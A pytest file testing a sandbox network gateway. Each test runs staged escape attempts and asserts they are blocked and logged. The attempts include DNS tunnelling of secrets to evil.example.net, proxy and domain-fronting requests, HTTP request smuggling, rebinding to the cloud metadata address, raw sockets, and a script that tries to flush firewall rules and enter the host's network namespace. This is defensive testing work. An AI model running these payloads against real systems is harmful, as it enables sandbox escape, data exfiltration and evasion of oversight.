"""Programs that try to get out.  Each is contained, and leaves exactly as many attempts as it made."""

# ruff: noqa: ASYNC221, E501  programs of attackers have long lines

import asyncio
import subprocess
import time

import pytest

from sandboxes.interface import ExecResult
from tests.sandboxes.watched_scene import (
    UPLINKS,
    AttackRefused,
    Internet,
    Scene,
    allowing,
    refuse_other_ways_out,
    scene,
)


def targets(staged: Scene) -> list[str]:
    return [record.attempt.target for record in staged.attempts]


def reasons(staged: Scene) -> set[str]:
    return {record.decision.reason for record in staged.attempts}


def nothing_allowed(staged: Scene) -> bool:
    return staged.recorded == staged.tried and not any(record.decision.allowed for record in staged.attempts)


async def test_tcp_to_any_address_is_denied_and_recorded_with_its_destination():
    async with scene() as staged:
        await staged.attack("""
            attempt(tcp, "203.0.113.5", 22)
            attempt(tcp, "198.51.100.7", 4444)
            attempt(tcp, "2001:db8::1", 443)
            attempt(tcp, "::ffff:203.0.113.6", 25, b"", socket.AF_INET6)
        """)
    assert targets(staged) == [
        "tcp 203.0.113.5:22", "tcp 198.51.100.7:4444", "tcp [2001:db8::1]:443", "tcp 203.0.113.6:25",
    ]  # fmt: skip
    assert nothing_allowed(staged)
    assert reasons(staged) == {"no-rule"}


async def test_udp_to_any_port_is_denied_and_recorded_quic_and_dns_over_quic_included():
    async with scene() as staged:
        result = await staged.attack("""
            for address in ("203.0.113.5", "2001:db8::5", "224.0.0.251", "255.255.255.255", "ff02::1%lo"):
                for port in (443, 853, 123, 1, 65535):
                    attempt(udp, address, port)
        """)
    assert staged.recorded == staged.tried - result.stdout.count("PermissionError Permission denied")
    assert "udp 203.0.113.5:443" in targets(staged)
    assert "udp [2001:db8::5]:853" in targets(staged)
    assert reasons(staged) == {"protocol-not-forwarded"}


async def test_ping_is_denied_and_recorded():
    async with scene() as staged:
        await staged.attack("""
            echo = b"\\x08\\0\\0\\0\\0\\0\\0\\0"
            attempt(udp, "203.0.113.9", 0, echo, socket.AF_INET, socket.IPPROTO_ICMP)
            attempt(udp, "2001:db8::9", 0, b"\\x80" + echo[1:], socket.AF_INET6, socket.IPPROTO_ICMPV6)
        """)
    assert targets(staged) == ["icmp 203.0.113.9", "icmp 2001:db8::9"]
    assert nothing_allowed(staged)


async def test_raw_packet_vsock_and_netfilter_sockets_are_refused_and_recorded():
    async with scene() as staged:
        result = await staged.attack("""
            for kind in [(2, 3, 1), (2, 3, 255), (2, 3 | 0o2004000, 6), (10, 3, 58), (17, 3, 768), (17, 2, 768), (40, 1, 0),
                         (16, 3, 12), (2, 5, 132), (2, 1, 132), (2, 2, 136), (38, 5, 0), (30, 1, 0)]:
                attempt(socket.socket, *kind)
        """)
        # Each look-up of a name lists the addresses of the machine first, which is nobody's attack.
        quiet = await staged.sandbox.run_python("import socket\nsocket.socket(16, 3, 0)")
    assert quiet.exception == "OSError"
    assert "<socket" not in result.stdout
    assert result.stdout.count("PermissionError") == 4
    assert nothing_allowed(staged)
    assert [record.attempt.protocol for record in staged.attempts] == ["raw"] * 6 + ["other"] * 7
    assert staged.attempts[4].opening_up == b"socket(family=17, type=3, protocol=768)"


async def test_a_caller_who_dies_while_waiting_for_an_answer_disturbs_nobody():
    async with scene() as staged:
        await staged.sandbox.run_python("""
import os, signal, socket, time
for _ in range(20):
    if (child := os.fork()) == 0:
        while True:
            try: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
            except OSError: pass
    time.sleep(0.005); os.kill(child, signal.SIGKILL); os.wait()
""")
        await staged.sandbox.reset()
        await staged.attack("attempt(socket.socket, 2, 3, 1)")
    assert staged.attempts[-1].attempt.protocol == "raw"


async def test_dns_tunnelling_leaves_nothing_but_records():
    async with scene(allowing("files.example.org")) as staged:
        await staged.attack("""
            for number in range(20):
                secret = ("%02x" % number) * 31
                attempt(udp, "203.0.113.53", 53, query(secret[:62] + "." + secret[:62] + ".evil.example.net", 16))
            attempt(udp, "198.51.100.53", 53, query("files.example.org", 16))
            attempt(udp, "2001:db8::53", 53, query("x.files.example.org"))
            attempt(udp, "127.0.0.1", 53, query("files.example.org", 10))
            attempt(udp, "203.0.113.53", 53, query("", 1, labels=[b"files.example", b"org"]))
            attempt(udp, "203.0.113.53", 53, query("", 1, labels=[b"a" * 63] * 5))
            attempt(udp, "203.0.113.53", 53, b"\\xff" * 500)
            attempt(udp, "203.0.113.53", 53, b"")
            attempt(tcp, "203.0.113.53", 53, struct.pack("!H", 29) + query("t.example.net")[:29])
            attempt(tcp, "203.0.113.53", 53, b"SSH-2.0-x")
        """)
    assert nothing_allowed(staged)
    assert {record.attempt.name for record in staged.attempts if record.attempt.query_type == "TXT"} >= {
        "files.example.org",
        f"{'13' * 31}.{'13' * 31}.evil.example.net",
    }
    assert "dns-type-not-allowed" in reasons(staged)


async def test_dns_over_https_to_a_public_resolver_is_denied_with_its_name():
    async with scene(allowing("files.example.org")) as staged:
        await staged.attack("""
            import ssl
            def doh(address, name):
                context = ssl.create_default_context()
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                made = socket.create_connection((address, 443), 5)
                return context.wrap_socket(made, server_hostname=name).version()
            attempt(doh, "203.0.113.1", "one.one.one.one")
            attempt(doh, "2001:db8::1111", "dns.example.net")
        """)
    assert [record.attempt.sni for record in staged.attempts] == ["one.one.one.one", "dns.example.net"]
    assert nothing_allowed(staged)


async def test_proxies_are_denied():
    async with scene(allowing("files.example.org")) as staged:
        result = await staged.attack("""
            attempt(tcp, "203.0.113.8", 1080, b"\\x05\\x01\\x00")
            attempt(tcp, "203.0.113.8", 3128, b"CONNECT evil.example.net:443 HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
            attempt(tcp, "203.0.113.8", 8080, b"GET http://evil.example.net/ HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
        """)
    assert nothing_allowed(staged)
    assert result.stdout.count("403 Forbidden") == 2
    assert [record.attempt.host for record in staged.attempts][1:] == ["evil.example.net", "evil.example.net"]


async def test_an_allowed_address_does_not_lead_to_other_names_behind_it():
    """Domain fronting, as far as names can be read: TLS name, Host, absolute target, a second request, a late one."""
    internet = Internet({"files.example.org": ["203.0.113.80"]})
    seen = []

    async def web(reader, writer):
        while head := await reader.readuntil(b"\r\n\r\n"):
            seen.append(head)
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")

    await internet.serve("203.0.113.80", 80, web)
    async with scene(allowing("files.example.org"), internet.upstream) as staged:
        await staged.attack("""
            site = socket.gethostbyname("files.example.org"); tries += 1
            attempt(tcp, site, 80, b"GET / HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
            attempt(tcp, site, 80, b"GET http://evil.example.net/ HTTP/1.1\\r\\nHost: files.example.org\\r\\n\\r\\n")
            attempt(tcp, site, 80, b"GET / HTTP/1.1\\r\\nHost: files.example.org\\r\\nHost: evil.example.net\\r\\n\\r\\n")
            attempt(tcp, site, 80, b"GET /a b HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
            attempt(tcp, site, 80, b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
            good = b"GET /1 HTTP/1.1\\r\\nHost: files.example.org\\r\\n\\r\\n"
            tries += 1  # the second request on a connection is an attempt of its own
            attempt(tcp, site, 80, good + b"GET /2 HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
            smuggled = b"POST /3 HTTP/1.1\\r\\nHost: files.example.org\\r\\nContent-Length: 5\\r\\n"
            attempt(tcp, site, 80, smuggled + b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /4 HTTP/1.1\\r\\n")
            def slowly(part, rest):
                made = socket.create_connection((site, 80), 5)
                made.sendall(part); time.sleep(3); made.sendall(rest)
                return made.recv(100)
            attempt(slowly, b"GE", b"T /5 HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
            attempt(slowly, b"", b"GET /6 HTTP/1.1\\r\\nHost: evil.example.net\\r\\n\\r\\n")
        """)
    await internet.close()
    assert not any(b"evil" in head for head in seen)
    assert {head.split()[1] for head in seen} <= {b"/1", b"/3"}
    assert staged.recorded == staged.tried
    assert "name-mismatch" in reasons(staged)


async def test_names_that_lead_inside_are_not_answered():
    """DNS rebinding: an allowed name whose owner points it at private, loopback or metadata addresses."""
    inside = ["10.0.0.1", "127.0.0.1", "169.254.169.254", "::1", "fd00::1", "::ffff:10.0.0.2", "64:ff9b::a00:1"]
    internet = Internet({"files.example.org": inside, "mixed.example.org": ["10.1.2.3", "203.0.113.10"]})
    async with scene(
        allowing("files.example.org", "mixed.example.org", ports=("1-65535",)), internet.upstream
    ) as staged:
        result = await staged.attack("""
            attempt(socket.gethostbyname, "files.example.org")
            attempt(socket.gethostbyname, "mixed.example.org")
            attempt(tcp, "10.1.2.3", 80)
            attempt(tcp, "169.254.169.254", 80, b"GET /latest/meta-data/ HTTP/1.1\\r\\nHost: files.example.org\\r\\n\\r\\n")
            attempt(tcp, "fd00:ec2::254", 80)
        """)
    assert "gethostbyname 203.0.113.10" in result.stdout
    assert staged.recorded == staged.tried
    assert [record.decision.allowed for record in staged.attempts] == [False, True, False, False, False]
    assert internet.dialled == []


async def test_listeners_of_the_host_and_of_other_sandboxes_are_out_of_reach():
    async def anybody(reader, writer):
        writer.write(b"the host")

    host = await asyncio.start_server(anybody, "127.0.0.1", 0)
    port = host.sockets[0].getsockname()[1]
    async with scene() as staged, scene() as neighbour:
        serving = """
            listener = socket.create_server(("0.0.0.0", 7777)); tries = 0
            listener.settimeout(2)
            try: print(listener.accept())
            except TimeoutError: pass
        """
        other = asyncio.create_task(neighbour.attack(serving))
        await asyncio.sleep(0.3)
        result = await staged.attack(f"""
            for address in ("127.0.0.1", "::1", "0.0.0.0"):
                attempt(tcp, address, {port})
            for address in ("127.0.0.1", "203.0.113.77", "10.0.0.1"):
                attempt(tcp, address, 7777)
        """)
        assert "(" not in (await other).stdout
    host.close()
    assert "the host" not in result.stdout
    assert nothing_allowed(staged)
    assert staged.recorded == 6
    assert neighbour.records == []


TAMPER = """
import os, socket, subprocess, ctypes
libc = ctypes.CDLL(None, use_errno=True)
def works(action):
    try:
        action()
        return True
    except (OSError, subprocess.SubprocessError):
        return False
def run(*argv):
    subprocess.run(argv, check=True, capture_output=True, timeout=5)
def bind(address, port, family=socket.AF_INET):
    made = socket.socket(family)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    made.bind((address, port))
    made.listen()
def option(level, name, value=1):
    socket.socket().setsockopt(level, name, value)
def write(path, text):
    with open(path, "w") as file: file.write(text)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0: raise OSError(ctypes.get_errno(), name)
tried = {
    "nft": lambda: run("/usr/sbin/nft", "flush", "ruleset"),
    "ip route": lambda: run("/usr/sbin/ip", "route", "flush", "table", "all"),
    "ip link": lambda: run("/usr/sbin/ip", "link", "set", "lo", "down"),
    "unshare": lambda: call("unshare", 0x10000000),
    "setns": lambda: call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0),
    "gateway port": lambda: bind("0.0.0.0", 1),
    "gateway port of an address": lambda: bind("203.0.113.5", 1),
    "gateway port v6": lambda: bind("::", 1, socket.AF_INET6),
    "dns port": lambda: bind("203.0.113.5", 53),
    "transparent": lambda: option(socket.SOL_IP, 19),
    "mark": lambda: option(socket.SOL_SOCKET, 36),
    "device": lambda: option(socket.SOL_SOCKET, 25, b"eth0\\0"),
    "sysctl": lambda: write("/proc/sys/net/ipv4/ip_unprivileged_port_start", "0"),
    "sysctl of the host": lambda: write("/proc/sys/net/ipv4/ip_forward", "1"),
    "resolv.conf": lambda: write("/etc/resolv.conf", "nameserver 203.0.113.1"),
    "the agent's network": lambda: os.listdir("/proc/1/fd"),
}
print(sorted(name for name, action in tried.items() if works(action)))
"""


async def test_nobody_in_the_sandbox_may_change_its_network():
    async with scene() as staged:
        result = await staged.sandbox.run_python(TAMPER)
        assert (result.outcome, result.stdout) == ("ok", "[]\n"), result
        await staged.attack('attempt(tcp, "203.0.113.5", 22)')
    assert [record.opening_up for record in staged.attempts] == [b"socket(family=16, type=3, protocol=12)", b""]


async def test_a_server_of_the_sandbox_on_a_foreign_address_catches_nothing():
    """Every address is local, so a guest can bind any of them; what it sends there goes to the gateway all the same."""
    async with scene() as staged:
        result = await staged.attack("""
            listener = socket.create_server(("203.0.113.5", 8080)); listener.settimeout(0.5)
            attempt(tcp, "203.0.113.5", 8080)
            attempt(listener.accept); tries -= 1
            own = socket.create_server(("127.0.0.1", 8081))
            friend = socket.create_connection(("127.0.0.1", 8081)); own.accept()[0].sendall(b"hello")
            print(friend.recv(10))
        """)
    assert "accept TimeoutError" in result.stdout
    assert "b'hello'" in result.stdout
    assert nothing_allowed(staged)
    assert targets(staged) == ["tcp 203.0.113.5:8080"]


async def test_connections_that_find_the_gateway_asleep_are_not_forgotten():
    """The supervisor's loop stands still while a guest fills the kernel's queue and more."""
    async with scene() as staged:
        await refuse_other_ways_out(staged.sandbox)
        program = """
import socket, time, os
open("/work/begun", "w").close(); time.sleep(0.5)
for number in range(6000):
    made = socket.socket(); made.setblocking(False)
    made.connect_ex(("203.0.113.5", 1024 + number)); made.close()
    if number % 1000 == 999: time.sleep(0.6)
"""
        running = asyncio.create_task(staged.sandbox.exec(["/usr/bin/python3", "-S", "-c", program], timeout_s=30))
        await asyncio.sleep(0.3)
        time.sleep(6)  # noqa: ASYNC251  this is the point
        assert (await running).outcome == "ok"
    assert staged.recorded == 6000
    assert {record.attempt.port for record in staged.attempts} == set(range(1024, 7024))


@pytest.mark.slow
async def test_ten_thousand_connections_are_ten_thousand_attempts():
    async with scene(timeout_s=120) as staged:
        await staged.attack("""
            for number in range(10_000):
                made = socket.socket(); made.setblocking(False); tries += 1
                made.connect_ex(("203.0.113.%d" % (number % 250 + 1), 1024 + number))
                made.close()
        """)
        await staged.attack('attempt(tcp, "203.0.113.5", 22)')
    assert nothing_allowed(staged)
    assert staged.tried == 10_001


async def test_a_flood_of_datagrams_is_counted_to_the_last():
    async with scene() as staged:
        await staged.attack("""
            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            for number in range(20_000):
                attempt.__globals__["tries"] += 1
                try: made.sendto(b"x", ("203.0.113.5", 9))
                except PermissionError: pass
        """)
    assert staged.recorded == staged.tried == 20_000
    assert len(staged.records) < 5000


async def test_a_flood_of_questions_is_counted_to_the_last():
    async with scene() as staged:
        await staged.attack("""
            made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); made.connect(("203.0.113.53", 53))
            for number in range(20_000):
                tries += 1
                made.send(query("%x.example.net" % number) + bytes(1000))
        """)
    assert staged.recorded == staged.tried == 20_000
    assert {record.attempt.protocol for record in staged.attempts} == {"dns"}


async def test_a_connection_to_itself_is_recorded_too():
    """Same address and port on both ends: it never leaves the guest's own socket, let alone the sandbox."""
    async with scene() as staged:
        await staged.attack("""
            def alone():
                made = socket.socket(); made.settimeout(2)
                made.bind(("203.0.113.5", 4444)); made.connect(("203.0.113.5", 4444))
                made.send(b"me"); return made.recv(10)
            attempt(alone)
        """)
    assert nothing_allowed(staged)


async def test_connections_held_open_starve_neither_the_gateway_nor_its_records():
    """Slow loris: bytes that come one by one to an allowed site, on as many connections as there may be."""
    internet = Internet({"files.example.org": ["203.0.113.80"]})
    policy = allowing("files.example.org")
    async with scene(policy, internet.upstream, timeout_s=60) as staged:
        result = await staged.attack("""
            site = socket.gethostbyname("files.example.org"); tries += 1
            held = []
            for number in range(200):
                tries += 1
                try: held.append(socket.create_connection((site, 80), 5)); held[-1].sendall(b"G")
                except OSError: pass  # one too many, and reset before we could write
            for letter in b"ET / HTTP":
                time.sleep(0.3)
                for made in held:
                    try: made.sendall(bytes([letter]))
                    except OSError: pass
            attempt(tcp, "203.0.113.5", 22)
        """)
    await internet.close()
    assert result.outcome == "ok"
    assert staged.recorded == staged.tried == 202
    assert internet.dialled == []
    assert {"quota-connections", "name-mismatch"} <= reasons(staged)


async def test_what_is_tried_in_the_last_moment_is_recorded_too():
    async with scene() as staged:
        await refuse_other_ways_out(staged.sandbox)
        running = asyncio.create_task(
            staged.sandbox.exec(
                ["/usr/bin/python3", "-S", "-c", "import socket, os, time\n"
                 "for n in range(50):\n made = socket.socket(); made.setblocking(False)\n"
                 " made.connect_ex(('203.0.113.5', 1000 + n)); os.write(1, b'.')\n"
                 "open('/work/done', 'w').close(); time.sleep(60)"],
                timeout_s=60,
            )
        )  # fmt: skip
        while True:
            try:
                await staged.sandbox.read_file("done")
                break
            except FileNotFoundError:
                await asyncio.sleep(0.01)
        await staged.sandbox.close()
        await asyncio.gather(running, return_exceptions=True)
    assert staged.recorded == 50


async def test_the_harness_attacks_nobody_where_there_is_a_way_out():
    inside = ["unshare", "-Urn", "sh", "-c", "ip link add outside type veth peer name beyond && ip link set outside up && "
              "ip route add default dev outside && exec python3 -c \"$0\"", UPLINKS]  # fmt: skip
    with_uplink = subprocess.run(inside, capture_output=True, text=True)
    assert "outside" in with_uplink.stdout  # there is a sandbox whose network has an uplink

    class SandboxWithUplink:
        async def exec(self, argv):
            return ExecResult("ok", with_uplink.stdout, "", 0, 0.0)

    with pytest.raises(AttackRefused, match="outside"):
        await Scene(SandboxWithUplink()).attack("")
